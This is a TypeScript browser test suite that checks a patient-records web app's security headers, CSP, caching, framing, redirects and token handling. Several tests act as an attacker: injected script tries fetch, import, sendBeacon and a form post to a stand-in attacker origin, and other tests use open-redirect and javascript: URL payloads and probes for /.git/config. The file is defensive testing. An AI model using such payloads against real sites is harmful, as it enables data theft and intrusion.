import { parseConfig } from '#config/load.ts';
import { securityHeaders } from '#config/hosting.ts';
import { expect, test } from './fixtures.ts';

const PAGES = [
  '/',
  '/patients',
  '/patients/p0001',
  '/launch',
  '/callback',
  '/access',
  '/redirect.html',
  '/config.json',
  '/no/such/page',
];

test.describe('the web host', () => {
  test('requirements 60, 61, 62, 63: every page, asset and error carries the headers', async ({
    request,
    sandbox,
    stage,
  }) => {
    const config = parseConfig(sandbox.appConfig());
    const asset = /src="(\/assets\/[^"]+)"/.exec(await (await request.get('/')).text())?.[1] ?? '';
    expect(asset).not.toBe('');
    const answers = [
      ...[...PAGES, asset, '/assets/gone-1.js', '/gone.txt'].map((path) => request.get(path)),
      request.post('/'),
      request.get(asset, { headers: { 'if-none-match': '"x"' } }),
    ];
    for (const answer of await Promise.all(answers)) {
      const { pathname } = new URL(answer.url());
      const what = `${answer.status()} ${pathname}`;
      const headers = answer.headers();
      const page = pathname === '/redirect.html' ? 'redirect' : 'app';
      for (const [name, value] of Object.entries(securityHeaders(config, { page, https: false })))
        expect(headers[name.toLowerCase()], `${what}: ${name}`).toBe(value);
      const policy = headers['content-security-policy'] ?? '';
      expect(policy, what).toContain("default-src 'none'");
      expect(policy, what).toContain("form-action 'none'");
      expect(policy, what).toContain("require-trusted-types-for 'script'");
      expect(policy, what).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
      expect(policy, what).toMatch(/frame-ancestors 'self'/);
      expect(policy, what).not.toContain(stage.attacker.origin);
      expect(headers['referrer-policy'], what).toBe('no-referrer');
      expect(headers['x-content-type-options'], what).toBe('nosniff');
      expect(headers['permissions-policy'], what).toMatch(/camera=\(\)/);
      expect(headers['x-frame-options'] ?? '', what).not.toMatch(/deny/i);
      // The redirect page talks to nobody but the window that opened it.
      const opener = headers['cross-origin-opener-policy'];
      if (page === 'redirect') expect(opener, what).toBeUndefined();
      else expect(opener, what).toMatch(/^same-origin/);
      if (page === 'app') expect(policy, what).toContain(new URL(sandbox.fhir.baseUrl).origin);
    }
  });

  test('requirements 60, 61: the policy follows the configuration', async ({ request, stage }) => {
    const policy = async (config: unknown): Promise<string> => {
      stage.host.setConfig(config);
      return (await request.get('/')).headers()['content-security-policy'] ?? '';
    };
    const server = { id: 'a', label: 'A', auth: { type: 'open' } };
    const one = await policy({
      servers: [{ ...server, fhirBaseUrl: 'https://one.example/fhir' }],
      embedding: { frameAncestors: ['https://ehr.example'] },
    });
    expect(one).toContain("connect-src 'self' https://one.example;");
    expect(one).toContain("frame-ancestors 'self' https://ehr.example;");
    const two = await policy({
      servers: [{ ...server, fhirBaseUrl: 'https://two.example:8443/r4' }],
    });
    expect(two).toContain("connect-src 'self' https://two.example:8443;");
    expect(two).toContain("frame-ancestors 'self';");
    // A file that cannot be understood opens nothing to anybody.
    expect(await policy('{ no json')).toContain("connect-src 'self';");
  });

  test('requirements 60, 62: script that got into the page could neither run nor reach anybody', async ({
    attacker,
    stage,
    stranger: page,
  }) => {
    await page.goto(`${stage.appOrigin}/patients`);
    await expect(page.getByRole('button').first()).toBeVisible();
    const done = await page.evaluate(async (evil) => {
      // What the debugger itself evaluates may use eval; what comes later may not.
      await new Promise((resolve) => setTimeout(resolve, 50));
      const tried: Record<string, string> = {};
      const attempt = async (name: string, act: () => unknown): Promise<void> => {
        try {
          await act();
          tried[name] = 'done';
        } catch (error) {
          tried[name] = (error as Error).name;
        }
      };
      const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) {
          try {
            element.setAttribute(name, value);
          } catch {
            // Trusted Types refuse some of them at once.
          }
        }
        document.body.append(element);
        return element;
      };
      // oxlint-disable-next-line no-eval -- what must not work
      await attempt('eval', () => (0, eval)('1'));
      // oxlint-disable-next-line no-new-func, typescript/no-implied-eval -- as above
      await attempt('Function', () => new Function('return 1')());
      await attempt('markup', () => (document.createElement('div').innerHTML = '<b>x</b>'));
      await attempt('script', () => (document.createElement('script').text = 'x'));
      await attempt('fetch', () => fetch(`${evil}/fetch`));
      await attempt('import', () => import(`${evil}/import.js`));
      await attempt('worker', () => new Worker(`${evil}/worker.js`));
      add('img', { src: `${evil}/img` });
      add('iframe', { src: `${evil}/frame` });
      add('object', { data: `${evil}/object` });
      add('link', { rel: 'stylesheet', href: `${evil}/style.css` });
      add('base', { href: evil });
      add('button', { onclick: 'globalThis.__xss = 1' }).click();
      navigator.sendBeacon(`${evil}/beacon`, 'x');
      const form = add('form', { action: `${evil}/form`, method: 'post', target: '_blank' });
      (form as HTMLFormElement).submit();
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { tried, xss: '__xss' in globalThis, base: document.baseURI };
    }, attacker.origin);
    expect(Object.values(done.tried), JSON.stringify(done.tried)).not.toContain('done');
    expect(done.xss).toBe(false);
    expect(new URL(done.base).origin).toBe(stage.appOrigin);
    expect(attacker.visits).toEqual([]);
  });

  test('requirement 63: over https, browsers are told to stay there for a year', ({ sandbox }) => {
    const config = parseConfig(sandbox.appConfig());
    for (const page of ['app', 'redirect'] as const)
      expect(securityHeaders(config, { page, https: true })['Strict-Transport-Security']).toBe(
        'max-age=31536000',
      );
  });

  test('requirement 64: pages are not stored, assets are kept for good', async ({ request }) => {
    const asset = /src="(\/assets\/[^"]+)"/.exec(await (await request.get('/')).text())?.[1] ?? '';
    for (const path of [
      '/',
      '/launch',
      '/callback',
      '/patients/p0001',
      '/config.json',
      '/redirect.html',
    ])
      expect((await request.get(path)).headers()['cache-control'], path).toMatch(
        /no-store|no-cache/,
      );
    expect((await request.get(asset)).headers()['cache-control']).toMatch(/immutable/);
  });

  test('requirement 66: no source map, no dot folder, no listing; deep links get the app', async ({
    request,
  }) => {
    const page = await (await request.get('/')).text();
    const asset = /src="(\/assets\/[^"]+)"/.exec(page)?.[1] ?? '';
    for (const path of [`${asset}.map`, '/.vite/manifest.json', '/.git/config', '/assets/']) {
      const answer = await request.get(path);
      const text = await answer.text();
      expect(text.includes('"mappings"') || text.includes('"isEntry"'), path).toBe(false);
    }
    const deep = await request.get('/patients/p0001/labs');
    expect(deep.status()).toBe(200);
    expect(await deep.text()).toBe(page);
    expect((await request.get('/assets/missing.js')).status()).toBe(404);
  });

  test('requirement 61: another origin cannot frame it', async ({
    attacker,
    guard,
    page,
    stage,
  }) => {
    guard.allowOrigin(attacker.origin);
    attacker.serve(
      '/frame',
      'text/html',
      `<!doctype html><title>x</title><iframe src="${stage.appOrigin}/"></iframe>`,
    );
    await page.goto(`${attacker.origin}/frame`);
    await page.waitForTimeout(800);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(
      await frame?.evaluate(() => document.querySelector('#root')).catch(() => null),
    ).toBeNull();
  });

  test('requirement 71: addresses that try to send one elsewhere stay here', async ({
    app,
    attacker,
    page,
    stage,
  }) => {
    const evil = attacker.origin;
    for (const path of [
      `/?returnTo=${evil}`,
      `/?redirect=//localhost:${new URL(evil).port}`,
      `/patients?next=${evil}`,
      `//localhost:${new URL(evil).port}/%2e%2e`,
      `/#/${evil}`,
      `/?url=javascript:globalThis.__xss=1`,
    ]) {
      await page.goto(stage.appOrigin + path);
      if (!path.startsWith('//')) await expect(app.shell.main, path).toBeVisible();
      expect(new URL(page.url()).origin).toBe(stage.appOrigin);
    }
    await page.goto('/?returnTo=' + evil);
    await app.signIn('open');
    expect(new URL(page.url()).origin).toBe(stage.appOrigin);
    expect(attacker.visits).toEqual([]);
  });

  test('requirements 37, 67: after a long visit nothing lasting is kept, and no token is on the page', async ({
    app,
    guard,
    page,
    sandbox,
  }) => {
    await page.addInitScript(() => {
      try {
        localStorage.setItem('debug', '*');
      } catch {
        // A page that is not of the app.
      }
    });
    await app.openList('ehr');
    const token = await page.evaluate(
      () => /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(JSON.stringify(sessionStorage))?.[0] ?? '',
    );
    expect(token).not.toBe('');
    await app.list.patients.first().click();
    await expect(app.chart.banner).toBeVisible();
    await page.goto('/access');
    await expect(app.shell.main).not.toBeEmpty();
    expect(guard.console.filter((line) => line.includes(token.slice(0, 60)))).toEqual([]);
    expect(await page.content()).not.toContain(token);
    const kept = await page.evaluate(async () => ({
      local: Object.keys(localStorage).filter((key) => key !== 'debug'),
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      cookie: document.cookie,
      name: window.name,
    }));
    expect(kept).toEqual({
      local: expect.any(Array),
      databases: 0,
      caches: 0,
      workers: 0,
      cookie: '',
      name: '',
    });
    expect(JSON.stringify(kept.local)).not.toMatch(/patient|token|fhir/i);
    expect(sandbox.ehr.log.filter(({ kind }) => kind === 'token')).toHaveLength(1);
  });

  test('requirement 68: titles and addresses name nobody', async ({ app, guard, page }) => {
    guard.secret('Methusa', 'ELDER', 'Elder');
    await app.open('/patients/awkward-aged');
    await expect(app.chart.heading).toContainText('ELDER, Methusa');
    await expect(page).toHaveTitle(/./);
    for (const path of ['/history', '/edit', '/conditions']) {
      await page.goto(`/patients/awkward-aged${path}`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    }
  });

  test('the first list loads at most 150 KB of script and style, and no sign-in library', async ({
    app,
    page,
  }) => {
    await page.addInitScript(() => {
      new MutationObserver((_changes, observer) => {
        if (!document.querySelector('tbody a')) return;
        performance.mark('first row');
        observer.disconnect();
      }).observe(document, { childList: true, subtree: true });
    });
    await page.route('**/config.json', async (route) => {
      const answer = await route.fetch();
      const config = (await answer.json()) as { servers: { id: string }[]; smartLaunch?: unknown };
      await route.fulfill({ json: { servers: config.servers.filter(({ id }) => id === 'open') } });
    });
    await page.goto('/patients');
    await app.listIsFilled();
    // What the page names, and what came before the first row; what the list takes later is not its.
    const html = await (await page.request.get('/patients')).text();
    const first = [...new Set(html.match(/assets\/[\w.-]+\.(?:js|css)/g))];
    const loaded = async () =>
      page.evaluate(() => {
        const shown = performance.getEntriesByName('first row')[0]?.startTime ?? Infinity;
        const entries = performance.getEntriesByType('resource') as PerformanceResourceTiming[];
        return entries.map(({ name, encodedBodySize: bytes, responseEnd }) => {
          return { file: new URL(name).pathname.slice(1), bytes, early: responseEnd <= shown };
        });
      });
    await expect
      .poll(async () => {
        const files = new Set((await loaded()).map(({ file }) => file));
        return first.filter((file) => !files.has(file));
      })
      .toEqual([]);
    const files = (await loaded()).filter(({ file }) => /\.(js|css)$/.test(file));
    const own = files.filter(({ file, early }) => early || first.includes(file));
    expect(own.length).toBeGreaterThan(2);
    expect(own.reduce((sum, { bytes }) => sum + bytes, 0) / 1024).toBeLessThanOrEqual(150);
    expect(files.filter(({ file }) => /entra|smart|msal|token/.test(file))).toEqual([]);
  });
});
